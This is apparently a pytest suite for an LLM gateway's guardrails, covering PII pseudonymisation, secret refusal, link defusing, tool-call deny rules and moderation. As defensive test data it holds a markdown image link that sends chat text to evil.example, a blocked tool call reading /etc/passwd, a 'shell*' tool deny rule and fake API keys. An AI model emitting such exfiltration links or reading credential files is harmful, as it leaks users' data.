"""Rules at work on real requests: what goes in, what comes out, and what everybody is told, in each caller's format."""

from __future__ import annotations

import asyncio
import json
import sqlite3
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import anthropic
import grpc
import httpx2
import openai
import pytest
import redis.asyncio
from aiohttp import web

from penstock.gateway.v1 import chat_service_pb2 as pb
from penstock.gateway.v1 import chat_service_pb2_grpc as rpc
from penstock.gateway.v1 import review_service_pb2 as reviews
from penstock.gateway.v1 import review_service_pb2_grpc as reviews_rpc
from penstock_common.testing.openai_upstream import Answer, ToolCall

MAIL, OTHER_MAIL, CARD = "ada.lovelace@example.com", "bob@other.example.org", "4539 1488 0343 6467"
HEADER = "x-penstock-guardrails"
RULES: dict[str, Any] = {
    "names": {"kind": "pii", "action": "pseudonymise", "types": ["email", "phone"]},
    "cards": {"kind": "pii", "action": "redact", "types": ["credit_card"]},
    "keys": {"kind": "secrets", "action": "refuse", "text": "No keys, please."},
    "steering": {"kind": "injection", "classifier": False, "surfaces": ["input", "tool_result"]},
    "rivals": {"kind": "words", "deny": ["acme corp"], "action": "redact"},
    "secret": {"kind": "words", "deny": ["project zeus"], "action": "refuse", "text": "I cannot speak of that."},
    "leaks": {"kind": "exfiltration"},
    "shell": {
        "kind": "tools",
        "deny": ["shell*"],
        "arguments": [{"tool": "read", "pointer": "/path", "pattern": "^/etc"}],
    },
    "watched": {"kind": "words", "deny": ["weather"], "action": "refuse", "shadow": True},
}


def rules(document: dict[str, Any], **pipeline: Any) -> None:
    document["guardrails"] = {"rules": RULES, "pipelines": [{"models": ["fast"], **pipeline}]}


def sent(upstream, at=-1):
    return [turn["content"] for turn in upstream.requests[at].body["messages"]]


async def test_pseudonyms_go_to_the_model_and_originals_to_the_caller(document, serve, upstream):
    rules(document, input=["names"])
    suite = await serve()
    first = await suite.ask(f"Write to {MAIL}.")
    (asked,) = sent(upstream)
    assert MAIL not in asked and asked.endswith("@mail.invalid.")
    pseudonym = asked.removeprefix("Write to ").removesuffix(".")
    upstream.enqueue(Answer(tokens=["Dear ", *pseudonym, ", hello"]), Answer(tokens=["Dear ", *pseudonym, ", hello"]))
    whole = await suite.ask(f"Please write to {MAIL}.")
    assert whole.json["choices"][0]["message"]["content"] == f"Dear {MAIL}, hello"
    assert first.header[HEADER] == whole.header[HEADER] == "names=pseudonymise:1"
    streamed = await suite.ask(f"Do write to {MAIL}.", stream=True)
    text = "".join(one["choices"][0]["delta"].get("content") or "" for one in streamed.chunks if one["choices"])
    assert text == f"Dear {MAIL}, hello"
    assert sent(upstream) == [f"Do write to {pseudonym}."]
    rows = await suite.ledger_after_close()
    assert [json.loads(row["guardrails"])[0]["kinds"] for row in rows] == [{"email": 1}] * 3
    assert MAIL not in json.dumps(rows)


async def test_other_models_and_keys_have_no_rules(document, serve, upstream):
    rules(document, input=["names"], tenants=["other"])
    suite = await serve()
    answered = await suite.ask(f"Write to {MAIL}.")
    assert HEADER not in answered.header
    assert sent(upstream) == [f"Write to {MAIL}."]


async def test_a_refused_request_asks_nobody_and_is_a_400_in_every_format(document, serve, upstream):
    rules(document, input=["keys"])
    suite = await serve()
    text = "My key is AKIAIOSFODNN7EXAMPLQ and sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD"
    for stream in (False, True):
        answered = await suite.ask(text, stream=stream)
        assert (answered.status, answered.error["code"], answered.error["type"]) == (
            400, "content_filter", "invalid_request_error",
        )  # fmt: skip
        assert answered.error["message"] == "No keys, please."
        assert answered.header[HEADER].startswith("keys=refuse:")
    head = {"x-api-key": suite.KEY, "anthropic-version": "2023-06-01"}
    body = {"model": "fast", "max_tokens": 9, "messages": [{"role": "user", "content": text}]}
    refused = await suite.request("POST", "/v1/messages", json=body, headers=head)
    assert (refused.status, refused.error["type"]) == (400, "invalid_request_error")
    stub, metadata = rpc.ChatServiceStub(suite.channel), (("authorization", f"Bearer {suite.KEY}"),)
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await stub.Chat(
            pb.ChatRequest(input={"model": "fast", "messages": [{"role": "ROLE_USER", "parts": [{"text": text}]}]}),
            metadata=metadata,
        )
    assert caught.value.code() is grpc.StatusCode.FAILED_PRECONDITION
    assert not upstream.requests
    rows = await suite.ledger_after_close()
    assert {(row["outcome"], row["cost_nano_usd"]) for row in rows} == {("guardrail_refused", 0)}


async def test_a_late_refusal_ends_the_stream_and_is_billed(document, serve, upstream):
    rules(document, output=["secret"])
    suite = await serve()
    upstream.enqueue(Answer(tokens=["It is a long story about ", "Project", " Ze", "us and ", "more"]))
    streamed = await suite.ask(stream=True, stream_options={"include_usage": True})
    chunks = streamed.chunks
    text = "".join(one["choices"][0]["delta"].get("content") or "" for one in chunks if one["choices"])
    assert "Zeus" not in text and text.endswith("I cannot speak of that.")
    reasons = [one["choices"][0]["finish_reason"] for one in chunks if one["choices"]]
    assert reasons[-1] == "content_filter" and set(reasons[:-1]) == {None}
    assert chunks[-1]["usage"]["completion_tokens"] > 0
    assert streamed.frames[-1] == "data: [DONE]"
    (row,) = await suite.ledger_after_close()
    assert (row["finish_reason"], row["stopped_by"], row["outcome"]) == ("content_filter", "guardrail", "ok")
    assert row["cost_nano_usd"] > 0 and row["output_tokens"] > 0


async def test_whole_answers_are_refused_in_the_vendors_words(document, serve, upstream):
    rules(document, output=["secret"])
    suite = await serve()
    upstream.enqueue(*[Answer(tokens=["About Project Zeus."])] * 4)
    http = httpx2.AsyncClient(transport=httpx2.AsyncHTTPTransport(uds=suite.http_socket))
    async with openai.AsyncOpenAI(
        base_url="http://penstock/v1", api_key=suite.KEY, http_client=http, max_retries=0
    ) as client:
        answer = await client.chat.completions.create(model="fast", messages=[{"role": "user", "content": "Hi"}])
    assert answer.choices[0].finish_reason == "content_filter"
    assert answer.choices[0].message.content == "I cannot speak of that."
    http = httpx2.AsyncClient(transport=httpx2.AsyncHTTPTransport(uds=suite.http_socket))
    async with anthropic.AsyncAnthropic(
        base_url="http://penstock", api_key=suite.KEY, http_client=http, max_retries=0
    ) as client:
        message = await client.messages.create(model="fast", max_tokens=9, messages=[{"role": "user", "content": "Ho"}])
        assert message.stop_reason == "refusal"
        async with client.messages.stream(
            model="fast", max_tokens=9, messages=[{"role": "user", "content": "Hu"}]
        ) as stream:
            final = await stream.get_final_message()
        assert final.stop_reason == "refusal"
    stub, metadata = rpc.ChatServiceStub(suite.channel), (("authorization", f"Bearer {suite.KEY}"),)
    told = await stub.Chat(
        pb.ChatRequest(input={"model": "fast", "messages": [{"role": "ROLE_USER", "parts": [{"text": "He"}]}]}),
        metadata=metadata,
    )
    assert told.stopped_by == "guardrail"
    rows = await suite.ledger_after_close()
    assert {row["finish_reason"] for row in rows} == {"content_filter"}
    assert all(row["cost_nano_usd"] > 0 for row in rows)


@pytest.mark.parametrize("stream", [False, True])
async def test_answers_are_redacted_and_links_defused(document, serve, upstream, stream):
    rules(document, output=["cards", "rivals", "leaks"])
    suite = await serve()
    said = (
        f"Pay with {CARD} at Acme  Corp today. See ![x](https://evil.example/p?d=secret%20words%20of%20the%20chat) now."
    )
    upstream.enqueue(Answer(tokens=list(said)))
    answered = await suite.ask(stream=stream)
    if stream:
        text = "".join(one["choices"][0]["delta"].get("content") or "" for one in answered.chunks if one["choices"])
    else:
        text = answered.json["choices"][0]["message"]["content"]
        assert answered.header[HEADER] == "cards=redact:1, rivals=redact:1, leaks=redact:1"
    assert text == "Pay with [CREDIT_CARD] at [REDACTED] today. See x [image removed] now."


async def test_a_denied_call_never_arrives(document, serve, upstream):
    rules(document, output=["shell"])
    suite = await serve()
    tool = {"type": "function", "function": {"name": "read", "parameters": {"type": "object"}}}
    calls = [ToolCall("read", ['{"pa', 'th": "\\u002fetc/passwd"}'], "call_1")]
    upstream.enqueue(Answer(tool_calls=calls, finish_reason="tool_calls"))
    upstream.enqueue(Answer(tool_calls=[ToolCall("read", ['{"path": "/home"}'], "call_2")], finish_reason="tool_calls"))
    streamed = await suite.ask(stream=True, tools=[tool])
    assert not any(one["choices"][0]["delta"].get("tool_calls") for one in streamed.chunks if one["choices"])
    assert [one["choices"][0]["finish_reason"] for one in streamed.chunks][-2:] == ["content_filter", None]
    allowed = await suite.ask("Again", tools=[tool])
    assert allowed.json["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] == '{"path": "/home"}'


async def test_a_shadow_changes_nothing_and_is_told(document, serve, upstream):
    rules(document, input=["watched"], output=["watched"])
    suite = await serve()
    upstream.enqueue(Answer(tokens=["The weather ", "is good."]))
    answered = await suite.ask("How is the weather?")
    assert answered.json["choices"][0]["message"]["content"] == "The weather is good."
    assert answered.header[HEADER] == "watched=refuse(shadow):2"


async def test_cached_answers_pass_the_rules_of_now_and_hold_no_original(document, serve, upstream, redis_server):
    rules(document, input=["names"], output=["rivals"])
    suite = await serve()
    await suite.ask(f"Who is {MAIL}?")
    pseudonym = sent(upstream)[0].removeprefix("Who is ").removesuffix("?")
    upstream.enqueue(Answer(tokens=[pseudonym, " is at Acme Corp."]))
    body = {"temperature": 0}
    first = await suite.ask(f"Where is {MAIL}?", **body)
    again = await suite.ask(f"Where is {MAIL}?", **body)
    assert again.header["x-penstock-cache"].startswith("hit")
    for one in (first, again):
        assert one.json["choices"][0]["message"]["content"] == f"{MAIL} is at [REDACTED]."


class Classifier:
    """A classifier of safety over HTTP, which flags what speaks of a bomb."""

    def __init__(self) -> None:
        self.asked: list[Any] = []
        self.status = 200

    async def _answer(self, request: web.Request) -> web.Response:
        body = await request.json()
        self.asked.append((request.headers.get("authorization"), body["input"]))
        bad = "bomb" in body["input"]
        result = {"flagged": bad, "categories": {"violence": bad}, "category_scores": {"violence": float(bad)}}
        return web.json_response({"results": [result]}, status=self.status)

    @asynccontextmanager
    async def running(self) -> AsyncIterator[str]:
        app = web.Application()
        app.router.add_post("/judge", self._answer)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/judge"
        await runner.cleanup()


async def test_a_classifier_elsewhere_judges_and_does_as_set_where_it_fails(document, serve, upstream):
    judge = Classifier()
    async with judge.running() as url:
        unsafe = {"kind": "moderation", "url": url, "api_key": "key-of-the-judge", "timeout": "20s"}
        document["guardrails"] = {
            "rules": {
                "names": RULES["names"],
                "unsafe": unsafe,
                "perhaps": {**unsafe, "on_failure": "open", "action": "report"},
            },
            "pipelines": [
                {"models": ["fast"], "input": ["names", "unsafe"], "output": ["unsafe"]},
                {"models": ["safe"], "input": ["perhaps"]},
            ],
        }
        suite = await serve()
        assert (await suite.ask(f"Mail {MAIL} of the bomb")).error["code"] == "content_filter"
        # It sees what the model would.
        assert MAIL not in judge.asked[0][1] and judge.asked[0][0] == "Bearer key-of-the-judge"
        upstream.enqueue(Answer(tokens=["It is ", "a bomb"]))
        streamed = await suite.ask("What is it?", stream=True)
        assert [one["choices"][0]["finish_reason"] for one in streamed.chunks][-2:] == ["content_filter", None]
        judge.status = 500
        failed = await suite.ask("Anything else?")
        assert (failed.status, failed.error["code"]) == (503, "service_unavailable")
        passed = await suite.ask("Anything else?", model="safe")
        assert (passed.status, passed.header[HEADER]) == (200, "perhaps=failed:1")


async def test_nothing_of_an_original_is_kept_logged_traced_or_cached(
    document, serve, upstream, redis_server, tmp_path, capfd
):
    names = {"kind": "pii", "action": "pseudonymise", "types": ["email", "phone"]}
    seen = {"kind": "pii", "action": "redact", "types": ["credit_card"]}
    document["guardrails"] = {"rules": {"n": names, "c": seen}, "pipelines": [{"input": ["c", "n"], "output": ["c"]}]}
    document["telemetry"] = {"capture_content": True}
    suite = await serve()
    call = {"id": "c1", "type": "function", "function": {"name": "find", "arguments": json.dumps({"who": MAIL})}}
    turns = [
        {"role": "system", "content": f"You serve {MAIL}."},
        {"role": "user", "content": [{"type": "text", "text": f"I pay by {CARD}, {MAIL}."}]},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": f"{MAIL} has {CARD}."},
    ]
    upstream.enqueue(Answer(tokens=list("Done.")))
    for asked in (turns, turns[:2], turns[:2]):
        answered = await suite.ask(messages=asked, temperature=0)
        assert answered.status == 200
    assert len(upstream.requests) == 2 and answered.header["x-penstock-cache"].startswith("hit")
    sent_body = json.dumps([one.body for one in upstream.requests])
    kept = await _everything_in(redis_server.url)
    await suite.ledger_after_close()
    files = b"".join(one.read_bytes() for one in tmp_path.rglob("*") if one.is_file())
    logged = "".join(capfd.readouterr()).encode()
    for secret in (MAIL, CARD, MAIL.split("@", maxsplit=1)[0], CARD[:9]):
        assert secret not in sent_body
        assert not any(secret.encode() in place for place in (kept, files, logged))


async def _everything_in(url: str) -> bytes:
    async with redis.asyncio.from_url(url) as client:
        keys = [key async for key in client.scan_iter()]
        return b"".join([key + (await client.dump(key) or b"") for key in keys])


async def test_what_is_under_review_is_refused_with_its_item_and_found_in_the_queue(document, serve, upstream):
    rules(document, input=["asks"], output=["holds"])
    document["guardrails"]["rules"] = {
        "asks": {"kind": "words", "deny": ["refund"], "action": "review"},
        "holds": {"kind": "words", "deny": ["lawsuit"], "action": "review", "hold": True, "text": "Wait, please."},
    }
    suite = await serve()
    upstream.enqueue(Answer(tokens=["We fear a ", "law", "suit."]))
    answered = await suite.ask("A refund, or else!", stream=True)
    text = "".join(one["choices"][0]["delta"].get("content") or "" for one in answered.chunks)
    assert "lawsuit" not in text
    item = text.partition("under review: ")[2].removesuffix(".")
    stub = reviews_rpc.ReviewServiceStub(suite.channel)
    metadata = (("authorization", f"Bearer {suite.KEY}"),)
    outcome = await stub.GetReviewOutcome(reviews.GetReviewOutcomeRequest(id=item), metadata=metadata)
    assert outcome.state == reviews.REVIEW_STATE_OPEN
    with sqlite3.connect(suite.state / "penstock.db") as database:
        rows = list(database.execute("SELECT id, rule, surface, held FROM review_items ORDER BY rule"))
    assert [(row[1], row[2], row[3]) for row in rows] == [("asks", "input", 0), ("holds", "output", 1)]
    assert rows[1][0] == item


async def test_who_follows_an_answer_has_the_rules_of_its_own_key(document, serve, upstream, hold):
    free, rest = "another-key-another-key", asyncio.Event()
    document["tenants"][0]["keys"].append(free)
    rules(document, output=["secret"], keys=["config-demo-1"])
    suite = await serve()
    upstream.enqueue(Answer(tokens=["It is ", "all about ", "Project Zeus ", "and ", "more."], hold={2: hold, 4: rest}))
    leader = asyncio.create_task(suite.ask(stream=True))
    async with asyncio.timeout(20):
        while not upstream.requests:
            await asyncio.sleep(0.01)
    async with suite.open_stream(key=free) as follower:
        assert follower.headers["x-penstock-cache"].startswith("hit; tier=flight")
        hold.set()
        said = ""
        while "Zeus" not in said:
            said += (await follower.content.readany()).decode()
        rest.set()
        said += (await follower.read()).decode()
    refused = await leader
    assert "content_filter" in refused.body.decode() and "Zeus" not in refused.body.decode()
    assert "Zeus" in said and "content_filter" not in said and said.endswith("[DONE]\n\n")
    assert len(upstream.requests) == 1
